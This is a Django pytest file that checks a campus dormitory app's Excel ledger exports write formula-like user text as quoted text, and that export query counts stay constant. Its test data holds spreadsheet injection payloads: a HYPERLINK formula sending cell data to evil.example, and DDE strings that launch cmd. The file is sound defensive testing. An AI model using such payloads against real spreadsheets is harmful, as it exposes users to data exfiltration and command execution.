"""Formula injection (issue 11.3): every Excel export writes user text as text. Names,
a building, a leave reason, a destination, a finding and a report that start with
=, +, -, @, a tab or a carriage return come out as string cells (with Excel's quote
prefix), never as formulas; and the export keeps the text."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from campusgrid.core.excel import FORMULA_TRIGGERS, ledger_workbook
from campusgrid.dossiers import services as dossiers
from campusgrid.ledgers.models import Finding, HolidayRegistration, LeaveRequest
from campusgrid.org.models import Building
from campusgrid.people.models import Student
from campusgrid.reports import services as reports

from .test_queries import ledgers, populate  # noqa: F401 - the fixture, and the rows of every ledger

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&A4,"点此查看")'
HOSTILE = {
    "name": "=cmd|' /C calc'!A0",
    "building": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reason": LINK,
    "destination": "+1+1",
    "finding": "-2+3+cmd|' /C calc'!A0",
    "report": "\t=1+1",
    "transport": "\r=1+1",
}

EXPORTS = [
    ("异常情况处理台账", lambda _: reverse("reports:list"), {"format": "xlsx"}),
    ("重点学生工作台账", lambda _: reverse("dossiers:list"), {"format": "xlsx"}),
    ("夜不归宿台账", lambda _: reverse("ledgers:night-list"), {"format": "xlsx", "status": "all"}),
    ("请假台账", lambda _: reverse("ledgers:leave-list"), {"format": "xlsx"}),
    ("节假日离校返校台账", lambda _: reverse("ledgers:holiday-ledger"), {}),
    (
        "节假日台账（一个班）",
        lambda shared: reverse("ledgers:holiday-window", args=[shared["window"].pk]),
        {"format": "xlsx"},
    ),
    ("安全隐患排查台账", lambda _: reverse("ledgers:finding-list"), {"format": "xlsx"}),
    ("文明宿舍评比", lambda _: reverse("ledgers:ratings"), {"format": "xlsx"}),
]


@pytest.fixture
def hostile(world, ledgers):  # noqa: F811 - the fixture imported above
    populate(world, ledgers, 0, 3)
    students = Student.objects.filter(student_no__startswith="Q")
    students.update(name=HOSTILE["name"])
    Student.objects.filter(pk=world.student.pk).update(name=HOSTILE["name"])
    Building.objects.filter(name="南2").update(name=HOSTILE["building"])
    LeaveRequest.objects.filter(student__in=students).update(reason=HOSTILE["reason"])
    HolidayRegistration.objects.filter(student__in=students).update(
        destination=HOSTILE["destination"], transport=HOSTILE["transport"]
    )
    Finding.objects.filter(room__building__name=HOSTILE["building"]).update(description=HOSTILE["finding"])
    world.student.refresh_from_db()
    reports.report_create(
        actor=world.dorm_head.user,
        category="安全隐患",
        severity="normal",
        description=HOSTILE["report"],
        students=[world.student],
    )
    dossiers.key_student_mark(
        actor=world.counselor.user, student=world.student, reasons=["心理"], risk_level="关注"
    )
    return ledgers


def _cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("label,url,params", EXPORTS, ids=[e[0] for e in EXPORTS])
def test_no_export_contains_a_formula(world, login, hostile, label, url, params):
    response = login(world.office).get(url(hostile), params)
    assert response.status_code == 200, label
    assert response["Content-Type"].startswith("application/vnd.openxmlformats"), label
    cells = _cells(response.content)
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas, f"{label}: formula cells {formulas}"
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS)]
    # The hostile text is kept (as text), and marked so that editing the cell keeps it text.
    assert risky, f"{label}: the hostile text is missing"
    assert all(c.data_type == "s" and c.quotePrefix for c in risky), label


def test_the_one_writer_keeps_every_kind_of_value():
    content = ledger_workbook(
        title="=台账",
        subtitle="范围",
        headers=["序号", "文本", "数字", "空", "控制字符"],
        rows=[[1, LINK, -3.5, None, "a\x0bb\x00c"], [2, "@x", 7, "", "\r=1"]],
    )
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["A1"].value == "=台账" and sheet["A1"].data_type == "s"
    assert [c.value for c in sheet[4]] == [1, LINK, -3.5, None, "abc"]
    assert sheet["C4"].data_type == "n" and sheet["B4"].data_type == "s" and sheet["B4"].quotePrefix
    assert sheet["E5"].value == "\n=1"  # a carriage return is a line break, not the start of a formula
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    assert sheet.freeze_panes == "A4"
    assert {str(r) for r in sheet.merged_cells.ranges} == {"A1:E1", "A2:E2"}


def _queries(client, url, params) -> int:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as captured:
        response = client.get(url, params)
    assert response.status_code == 200
    return len(captured)


def _reports(world, count):
    for n in range(count):
        reports.report_create(
            actor=world.dorm_head.user,
            category="安全隐患",
            severity="normal",
            description=f"第{n}个问题",
            students=[world.student],
        )


def test_the_exports_not_covered_elsewhere_cost_the_same_queries_for_few_and_many_rows(
    world,
    login,
    ledgers,  # noqa: F811
):
    """Reports and ratings exports (the ledger exports are in test_queries, the key-student
    export in tests/dossiers/test_queries)."""
    client = login(world.office)
    populate(world, ledgers, 0, 5)
    _reports(world, 3)
    urls = [(reverse("reports:list"), {"format": "xlsx"}), (reverse("ledgers:ratings"), {"format": "xlsx"})]
    few = [_queries(client, url, params) for url, params in urls]
    few = [_queries(client, url, params) for url, params in urls]  # warm
    populate(world, ledgers, 5, 45)
    _reports(world, 30)
    many = [_queries(client, url, params) for url, params in urls]
    assert few == many, f"{few} queries for few rows, {many} for many"
